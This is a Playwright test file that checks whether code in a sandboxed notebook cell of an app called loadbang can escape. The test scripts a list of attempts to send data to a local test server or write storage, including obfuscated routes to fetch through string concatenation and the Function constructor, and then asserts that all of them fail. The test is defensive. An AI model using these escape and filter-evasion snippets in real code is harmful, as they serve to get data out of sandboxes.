// A cell reaches nothing but what it was given: each attempt fails inside, and outside nothing came of it.
import { expect, test } from '@playwright/test'
import { openConsole } from './helpers/app.ts'
import { readDisk } from './helpers/disk.ts'
import { openOutside } from './helpers/outside.ts'
import { openSketch } from './helpers/sketches.ts'

/** What a cell tries: expressions that throw or reject where it cannot be had. */
const attempts: Record<string, string> = {
  'indexedDB.open': `new Promise((yes, no) => {
    const request = indexedDB.open('stolen'); request.onsuccess = yes; request.onerror = no })`,
  fetch: `fetch(OUT)`,
  XMLHttpRequest: `new Promise((yes, no) => {
    const request = new XMLHttpRequest(); request.open('GET', OUT)
    request.onload = yes; request.onerror = no; request.send() })`,
  WebSocket: `new Promise((yes, no) => {
    const socket = new WebSocket(OUT.replace('http', 'ws')); socket.onopen = yes; socket.onerror = no })`,
  EventSource: `new Promise((yes, no) => {
    const source = new EventSource(OUT); source.onopen = yes; source.onerror = no })`,
  localStorage: `localStorage.setItem('stolen', '1')`,
  caches: `caches.open('stolen')`,
  importScripts: `importScripts(OUT)`,
  'navigator.storage': `navigator.storage.getDirectory()
    .then((root) => root.getFileHandle('stolen', { create: true }))`,
  'navigator.sendBeacon': `navigator.sendBeacon(OUT, 'stolen') || Promise.reject()`,
  'a worker of its own': `new Worker(OUT)`,
  'another channel': `new BroadcastChannel('loadbang-library').postMessage('changed')`,
  'by way of the global': `globalThis['fet' + 'ch'](OUT)`,
  'by way of a function': `Function('return fetch')()(OUT)`,
  'by way of its maker': `(async () => {}).constructor('return fetch')().then((fetch) => fetch(OUT))`
}

/** Tries them all; `reached` then holds the names of those that worked. */
const program = (out: string): string => `const OUT = ${JSON.stringify(out)}
const attempts = {
${Object.entries(attempts)
  .map(([name, source]) => `  ${JSON.stringify(name)}: () => ${source}`)
  .join(',\n')}
}
const reached = []
for (const name in attempts) {
  try { await attempts[name](); reached.push(name) } catch {}
}
`

test('a cell that tries to get out reaches nothing', async ({ page, context }) => {
  const outside = await openOutside()
  const count = Object.keys(attempts).length
  try {
    // A page of its own server reaches all of it, but for what windows do not have.
    const free = await context.newPage()
    await free.goto(outside.url)
    const open = await free.evaluate(`(async () => { ${program(`${outside.url}/free`)} return reached })()`)
    expect(open).toEqual(Object.keys(attempts).filter((name) => name !== 'importScripts'))
    await free.close()
    expect(outside.requested.filter((path) => path === '/free').length).toBeGreaterThan(5)
    outside.requested.length = 0

    const say = `console.log('tried ${count}, reached: ' + (reached.join(', ') || 'nothing'))`
    const code = program(`${outside.url}/stolen`) + say
    // The `fetch` of cells asks the person, once for all attempts.
    await openSketch(page, { cell: [40, 40, 'js', { code }] }, [], () =>
      page.getByRole('dialog').getByRole('button', { name: 'Don’t allow' }).click()
    )
    await expect(await openConsole(page)).toHaveText([`tried ${count}, reached: nothing`])

    expect(outside.requested).toEqual([])
    expect(Object.keys(await readDisk(page)).filter((name) => !name.startsWith('loadbang-'))).toEqual([])
    const left = await page.evaluate(async () => {
      const root = await navigator.storage.getDirectory()
      const stolen = await root.getFileHandle('stolen').catch(() => null)
      // The page's own (storage/idb/room.ts) is there.
      const strange = (await caches.keys()).filter((name) => !name.startsWith('loadbang-'))
      return { caches: strange, item: localStorage.getItem('stolen'), file: stolen !== null }
    })
    expect(left).toEqual({ caches: [], item: null, file: false })
  } finally {
    outside.close()
  }
})
